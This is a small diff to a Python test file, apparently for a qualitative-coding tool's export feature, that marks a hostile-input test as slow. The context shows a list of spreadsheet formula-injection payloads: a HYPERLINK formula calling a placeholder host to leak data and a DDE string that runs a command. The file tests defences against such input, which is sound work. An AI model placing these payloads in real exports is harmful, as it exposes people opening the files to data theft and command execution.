@@ -21,6 +21,9 @@ from qualcode.cli import app
 from qualcode.export.cells import FORMULA_START
 from tests.hostile.export_kit import build_project, run, runner
 
+# slow: every payload goes through real csv/xlsx/docx exports
+pytestmark = pytest.mark.slow
+
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?leak","click")',
     "=cmd|' /c calc'!A1",
